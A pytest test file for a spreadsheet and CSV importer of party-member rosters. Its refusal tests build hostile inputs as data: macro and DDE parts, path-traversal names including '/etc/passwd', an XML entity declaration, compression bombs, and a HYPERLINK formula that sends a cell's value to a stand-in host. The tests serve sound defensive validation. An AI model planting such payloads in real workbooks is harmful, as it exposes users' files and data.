import contextlib
import datetime as dt
import io
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.styles import Font

from partybuild.tables import Limits, MergedRange, RawRow, RawSheet, TableRefused, read_tables

SAMPLES = Path(__file__).resolve().parents[2].parent / "shared" / "samples"
needs_samples = pytest.mark.skipif(not SAMPLES.is_dir(), reason=f"sample files absent: {SAMPLES}")


def workbook_bytes(fill):
    """Build a workbook with `fill(sheet)`."""
    workbook = openpyxl.Workbook()
    fill(workbook.active)
    return saved(workbook)


def saved(workbook):
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def one_sheet(data, file_name="名册.xlsx"):
    (sheet,) = read_tables(data, file_name)
    return sheet


def refusal(data, file_name="名册.xlsx"):
    with pytest.raises(TableRefused) as refused:
        read_tables(data, file_name)
    return refused.value.reason


def package(parts=(), *, without=()):
    """Build a small honest workbook and put more parts into it, or other ones in their place."""
    added = dict(parts)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook_bytes(lambda sheet: sheet.append(["姓名"])))) as honest,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for name in honest.namelist():
            if name not in added and name not in without:
                changed.writestr(name, honest.read(name))
        for name, content in added.items():
            changed.writestr(name, content)
    return out.getvalue()


def test_cells_keep_their_types():
    def fill(sheet):
        sheet.append(["王建国", 27, 1.5, True, dt.date(2025, 7, 1)])
        sheet.append([None, 15414894686, "007", False, dt.datetime(2025, 7, 1, 9, 30)])  # noqa: DTZ001

    assert one_sheet(workbook_bytes(fill)).rows == [
        RawRow(1, ["王建国", 27, 1.5, True, dt.date(2025, 7, 1)]),
        RawRow(2, [None, 15414894686, "007", False, dt.datetime(2025, 7, 1, 9, 30)]),  # noqa: DTZ001
    ]


def test_an_id_number_in_a_number_cell_stays_recognisable():
    (row,) = one_sheet(workbook_bytes(lambda sheet: sheet.append([9.990141969100385e17]))).rows

    assert row.cells == [9.990141969100385e17]
    assert type(row.cells[0]) is float


def test_times_and_durations_become_text():
    def fill(sheet):
        sheet.append([dt.time(9, 30), dt.timedelta(hours=30)])

    assert one_sheet(workbook_bytes(fill)).rows[0].cells == ["09:30:00", "1 day, 6:00:00"]


def test_text_is_handed_over_as_it_stands():
    words = ["'999021198507185530", "\t999", " 马 峰\xa0", "甲\n乙", "=1+1", "𬍛\ue863", "{[\"'}"]

    def fill(sheet):
        for column, word in enumerate(words, 1):
            sheet.cell(1, column).value = word
            sheet.cell(1, column).data_type = "s"

    assert one_sheet(workbook_bytes(fill)).rows[0].cells == words


def test_rows_are_numbered_as_the_spreadsheet_shows_them_and_blank_ones_left_out():
    def fill(sheet):
        sheet["C3"] = "姓名"
        sheet["C6"] = "刘梅"
        sheet["D6"] = "女"

    assert one_sheet(workbook_bytes(fill)).rows == [
        RawRow(3, [None, None, "姓名", None]),
        RawRow(6, [None, None, "刘梅", "女"]),
    ]


def test_a_cell_beyond_the_row_is_empty():
    assert RawRow(1, ["姓名"]).cell(7) is None


def test_formulas_are_told_apart_from_typed_values():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as workbook:
        sheet = workbook.add_worksheet("名册")
        sheet.write_string("A1", "刘梅")
        sheet.write_formula("B1", '="退休于"&2021', value="退休于2021年")
        sheet.write_formula("AB1", "=1+1", value=2)
        sheet.write_string("A2", "杨武")
        sheet.write_formula("B2", "=TODAY()", value="")

    first, second = one_sheet(out.getvalue()).rows

    assert (first.cell(0), first.cell(1), first.cell(27)) == ("刘梅", "退休于2021年", 2)
    assert first.formulas == {1, 27}
    assert (second.cell(1), second.formulas) == (None, {1})


def test_merged_cells_are_told_and_can_be_spread():
    def fill(sheet):
        sheet.append(["党支部", "人数", None])
        sheet.append([None, "应到", "实到"])
        sheet.append(["第一党支部", 3, 2])
        sheet.append([None, 4, 4])
        sheet.merge_cells("A1:A2")
        sheet.merge_cells("B1:C1")
        sheet.merge_cells("A3:A4")

    sheet = one_sheet(workbook_bytes(fill))

    assert sorted(sheet.merged) == [
        MergedRange(1, 1, 1, 2),
        MergedRange(1, 2, 0, 0),
        MergedRange(3, 4, 0, 0),
    ]
    assert [row.cells for row in sheet.spread()] == [
        ["党支部", "人数", "人数"],
        ["党支部", "应到", "实到"],
        ["第一党支部", 3, 2],
        ["第一党支部", 4, 4],
    ]
    assert sheet.rows[3].cells == [None, 4, 4]


def test_spreading_skips_rows_that_do_not_exist():
    sheet = RawSheet("名册", merged=[MergedRange(1, 5, 0, 1)], rows=[RawRow(3, ["刘梅"])])

    assert sheet.spread() == [RawRow(3, ["刘梅"])]


def test_hidden_sheets_and_columns_are_told():
    workbook = openpyxl.Workbook()
    workbook.active.title = "党员 <名册>"
    workbook.active.append(["姓名", "年龄", "性别"])
    workbook.active.column_dimensions["B"].hidden = True
    workbook.create_sheet("旧表").sheet_state = "hidden"
    workbook.create_sheet("更旧").sheet_state = "veryHidden"

    sheets = read_tables(saved(workbook), "名册.xlsx")

    assert [(sheet.name, sheet.hidden) for sheet in sheets] == [
        ("党员 <名册>", False),
        ("旧表", True),
        ("更旧", True),
    ]
    assert sheets[0].hidden_columns == {1}


def test_a_path_is_read_like_bytes(tmp_path):
    path = tmp_path / "名册.xlsx"
    path.write_bytes(workbook_bytes(lambda sheet: sheet.append(["姓名"])))

    assert read_tables(path, "名册.xlsx") == read_tables(path.read_bytes(), "名册.xlsx")


def test_a_macro_free_xlsm_is_welcome_and_content_counts_not_the_name():
    data = package()

    assert read_tables(data, "名册.xlsm") == read_tables(data, "名册.xls")


# --- text files ------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_is_read_in_every_usual_encoding_and_delimiter(encoding, delimiter):
    text = f'姓名{delimiter}备注\r\n朱𬍛{delimiter}"借调{delimiter}""驻村""\n一年"\r\n\r\n李䶮{delimiter}\r\n'

    sheet = one_sheet(text.encode(encoding), "名册.csv")

    assert (sheet.name, sheet.hidden) == ("csv", False)
    assert sheet.rows == [
        RawRow(1, ["姓名", "备注"]),
        RawRow(2, ["朱𬍛", f'借调{delimiter}"驻村"\n一年']),
        RawRow(4, ["李䶮", None]),
    ]


def test_a_tab_before_an_id_number_is_no_delimiter():
    sheet = one_sheet("姓名,身份证号\n刘梅,\t999021198507185530\n".encode(), "名册.csv")

    assert sheet.rows[1].cells == ["刘梅", "\t999021198507185530"]


@pytest.mark.parametrize("name", ["陈玉民", "陈玉"])
def test_a_text_file_of_two_encodings_is_refused(name):
    lines = [
        "姓名,性别\r\n".encode("gb18030"),
        f"{name},男\r\n".encode(),
        "杨武,男\r\n".encode("gb18030"),
    ]

    assert "混有几种文字编码" in refusal(b"".join(lines), "名册.csv")


def test_a_binary_file_called_csv_is_refused():
    assert "不是文本文件" in refusal(b"\x01\x02\x00\x03,\n", "名册.csv")


# --- what is refused, each with its own reason -----------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "文件是空的"),
        (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "网页文件"),
        (b"\xef\xbb\xbf<!DOCTYPE html><p>x", "网页文件"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', "XML 表格文件"),
        (b"%PDF-1.7", "PDF"),
        (b"hello", "不是 Excel 文件"),
        (b"PK\x03\x04 and then nothing", "不完整或已损坏"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le"), "宏"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), "Word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), "不完整或已损坏"),
    ],
)
def test_what_is_no_workbook_is_refused_by_its_content(data, reason):
    assert reason in refusal(data)


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"xl/vbaProject.bin": b"x"}, "宏"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "宏"),
        ({"xl/externalLinks/externalLink1.xml": b"<x/>"}, "外部工作簿或外部程序"),
        ({"xl/connections.xml": b"<x/>"}, "外部数据连接"),
        ({"xl/embeddings/oleObject1.bin": b"x"}, "嵌有其他文件"),
        ({"xl/activeX/activeX1.xml": b"<x/>"}, "控件"),
        ({"../../outside.txt": b"x"}, "外部文件夹"),
        ({"xl\\..\\..\\outside.txt": b"x"}, "外部文件夹"),
        ({"/etc/passwd": b"x"}, "外部文件夹"),
        ({"XL/Workbook.xml": b"<x/>"}, "重名"),
        ({f"xl/media/image{number}.png": b"x" for number in range(200)}, "个部件"),
        ({"xl/theme/theme1.xml": b"<x/>" + b" " * 1_000_000}, "压缩得过于"),
        ({"xl/theme/theme1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, "实体定义"),
        ({"xl/theme/theme1.xml": "<x/>".encode("utf-16")}, "不完整或已损坏"),
        ({"xl/workbook.xml": b"<workbook"}, "不完整或已损坏"),
        ({"xl/workbook.bin": b"x"}, ".xlsb"),
        ({"xl/drawings/drawing1.xml": "<x>机密★5年</x>".encode()}, "密级"),
    ],
)
def test_a_package_is_refused_for_what_it_holds(parts, reason):
    assert reason in refusal(package(parts))


def test_a_zip_that_is_no_workbook_is_refused():
    assert "不是 Excel 表格" in refusal(package(without=["xl/workbook.xml"]))


def test_a_part_that_lies_about_its_size_is_refused():
    data = bytearray(package({"xl/theme/theme1.xml": bytes(range(256)) * 4000}))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"xl/theme/theme1.xml"))
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")

    assert "不完整或已损坏" in refusal(bytes(data))


@pytest.mark.parametrize(
    "mark", ["秘密★1年", "机密 ★", "绝密", "密级：机密", "密级:秘密", " 秘　密 ", "机密☆长期"]
)
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_classification_above_internal_is_refused(mark, kind):
    if kind == "csv":
        data = f"{mark},\n姓名,性别\n".encode()
    else:
        data = workbook_bytes(lambda sheet: sheet.append([mark]))

    assert "密级" in refusal(data, f"名册.{kind}")


@pytest.mark.parametrize("words", ["内部", "内部★", "保密教育", "秘密投票", "秘密书写处"])
def test_harmless_words_are_no_classification(words):
    assert one_sheet(workbook_bytes(lambda sheet: sheet.append([words]))).rows[0].cells == [words]


def test_an_empty_formatted_cell_far_away_is_harmless():
    def fill(sheet):
        sheet.append(["姓名"])
        sheet["XFD1048576"].font = Font(bold=True)

    assert one_sheet(workbook_bytes(fill)).rows == [RawRow(1, ["姓名"])]


def test_a_stray_value_far_away_is_named():
    def fill(sheet):
        sheet.append(["姓名"])
        sheet["XFD1048576"] = " "

    assert "第 1048576 行、第 16384 列" in refusal(workbook_bytes(fill))


def test_a_long_column_of_far_cells_is_welcome():
    def fill(sheet):
        sheet["A1"] = "姓名"
        sheet["A1048576"] = "刘梅"

    rows = one_sheet(workbook_bytes(fill)).rows

    assert rows == [RawRow(1, ["姓名"]), RawRow(1048576, ["刘梅"])]


def test_merged_ranges_that_overlap_everywhere_are_refused():
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row></sheetData>'
        b'<mergeCells><mergeCell ref="A1:B1"/><mergeCell ref="A1:B9"/></mergeCells></worksheet>'
    )

    assert "重叠" in refusal(package({"xl/worksheets/sheet1.xml": sheet}))


def test_a_cell_longer_than_a_spreadsheet_allows_is_refused():
    assert "32767" in refusal(("姓名\n" + "长" * 32_768).encode(), "名册.csv")


def test_a_file_above_the_limit_is_refused_unread():
    with pytest.raises(TableRefused, match="上限"):
        read_tables(bytes(2 << 20), "名册.xlsx", limits=Limits(file_bytes=1 << 20))


def test_a_reader_that_takes_too_long_is_stopped():
    with pytest.raises(TableRefused, match="时间太长"):
        read_tables(package(), "名册.xlsx", limits=Limits(clock_seconds=0))


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux limits a process's memory")
def test_a_reader_that_wants_too_much_memory_is_stopped():
    text = "".join(f"{number},{'甲' * 100}\n" for number in range(100_000))

    with pytest.raises(TableRefused, match="内存太大"):
        read_tables(text.encode(), "名册.csv", limits=Limits(memory_bytes=120 << 20))


HONEST = package()


@settings(max_examples=30, deadline=None)
@given(at=st.integers(0, 10_000), damage=st.binary(min_size=1, max_size=40))
def test_a_damaged_workbook_gives_rows_or_a_reason(at, damage):
    at %= len(HONEST)

    with contextlib.suppress(TableRefused):  # any other exception fails the test
        (sheet,) = read_tables(HONEST[:at] + damage + HONEST[at + len(damage) :], "名册.xlsx")
        assert type(sheet) is RawSheet


# --- the sample files ------------------------------------------------------------------------

BROKEN = (
    yaml.safe_load((SAMPLES / "expected.yaml").read_text("utf-8"))["broken_files"]
    if SAMPLES.is_dir()
    else {}
)
REASONS = {
    "broken/截断的花名册.xlsx": "不完整或已损坏",
    "broken/加密的花名册.xlsx": "打开密码",
    "broken/高压缩比(200MB).xlsx": "200 MB 的上限",
    "broken/带宏的名册.xlsm": "宏",
    "broken/混合编码.csv": "混有几种文字编码",
    "broken/外部链接与DDE.xlsx": "外部工作簿或外部程序",
    "broken/网页另存的名册.xlsx": "网页文件",
    "broken/空文件.xlsx": "文件是空的",
    "broken/实体扩展.xlsx": "实体定义",
    "broken/标注密级的名册.xlsx": "密级",
    "broken/路径穿越.xlsx": "外部文件夹",
}


@needs_samples
def test_every_broken_sample_is_refused_for_its_own_reason():
    refused = [name for name, line in BROKEN.items() if line["outcome"] == "refuse"]

    assert sorted(refused) == sorted(REASONS)
    for name in refused:
        with pytest.raises(TableRefused, match=REASONS[name]):
            read_tables(SAMPLES / name, name)


@needs_samples
def test_every_harmless_oddity_of_the_samples_is_read():
    harmless = {name: line for name, line in BROKEN.items() if line["outcome"] == "import"}

    assert len(harmless) == 2
    for name, line in harmless.items():
        (sheet,) = read_tables(SAMPLES / name, name)
        assert sheet.rows[0].cells == ["姓名", "性别", "身份证号码", "入党时间", "党支部"]
        assert [row.cells[0] for row in sheet.rows[1:]] == line.get("names", [])


@needs_samples
def test_the_sample_roster_shows_its_hidden_sheet_and_its_formulas():
    sheets = {
        sheet.name: sheet for sheet in read_tables(SAMPLES / "党员花名册.xlsx", "党员花名册.xlsx")
    }

    def row(name, number):
        return next(row for row in sheets[name].rows if row.number == number)

    assert [name for name, sheet in sheets.items() if sheet.hidden] == ["2024年底（旧）"]
    assert sheets["政治部党支部"].hidden_columns == {5}
    without_value = row("法治督察处党支部", 14)
    assert (without_value.cell(3), 3 in without_value.formulas) == (None, True)
    in_text = row("公共法律服务中心窗口党支部", 16)
    assert (in_text.cell(18), 18 in in_text.formulas) == ("退休于2021年", True)
    typed = row("律师工作处党支部", 14)
    assert typed.cell(16) == '=HYPERLINK("http://example.invalid/?c="&I7,"点击查看")'
    assert typed.formulas == frozenset()
